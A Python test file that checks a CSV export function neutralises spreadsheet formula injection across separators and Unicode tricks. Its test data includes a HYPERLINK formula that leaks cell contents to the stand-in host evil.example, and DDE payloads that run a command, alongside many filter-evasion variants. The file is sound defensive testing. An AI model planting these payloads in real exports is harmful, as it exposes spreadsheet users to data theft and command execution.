import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coach.export.pages.formula import inert

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    " \t +1",
    "\tplain",
    "Acme;=1+1",
    "Acme;=1+1;@SUM(1)",
    "Acme\t+1",
    "Acme,-1",
    'Acme;"=1+1',
    'Acme; " =1+1',
    "Acme;;\u200b=1",
    "Acme\n=1+1",
    ";=1",
)
SEPARATORS = ",;\t"


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_begin_a_formula_is_text(text: str) -> None:
    assert formulas_in(inert(text)) == []


@pytest.mark.parametrize(
    "text", [text for text in FORMULAS if not text.strip(" ").startswith(("Acme", ";", "\t", "\r", "\n"))]
)
def test_one_apostrophe_before_it_is_enough(text: str) -> None:
    assert inert(text) == f"'{text}"


def test_an_apostrophe_stands_where_a_cell_begins_for_some_reader() -> None:
    assert inert("Acme; =1+1\t@SUM(1), -2\u2028-3") == "Acme;' =1+1\t'@SUM(1),' -2\u2028'-3"


@pytest.mark.parametrize(
    "text", ["", "Meridian", "Acme; Beta, Gamma", "1 + 1 = 2", "a=b", "Ада", "'=1", "(=1)", "3-4", "🎯 =", " Alpha"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]) | st.sampled_from('=+-@;,\t"\n ')))
def test_no_text_begins_a_formula_for_any_reader_and_all_can_be_read_back(text: str) -> None:
    ((_, cell, _),) = csv.reader(StringIO(row(inert(text)), newline=""))

    assert cell == inert(text)
    assert cell.replace("'", "") == text.replace("'", "")
    assert formulas_in(inert(text)) == []


def row(cell: str) -> str:
    written = StringIO()
    csv.writer(written, lineterminator="\r\n").writerow(["1", cell, "after"])
    return written.getvalue()


def formulas_in(cell: str) -> list[str]:
    """What is a formula to a reader with each separator, whether or not it knows quotes."""
    line = row(cell)
    found = list[str]()
    for separator in SEPARATORS:
        lines = [*csv.reader(StringIO(line, newline=""), delimiter=separator)]
        lines += [each.split(separator) for each in line.splitlines()]
        found += [
            each
            for cells in lines
            for each in cells
            if each.lstrip(' "\u00a0\u3000\u200b\ufeff')[:1] in set("=+-@＝＋－＠")
        ]
    return found
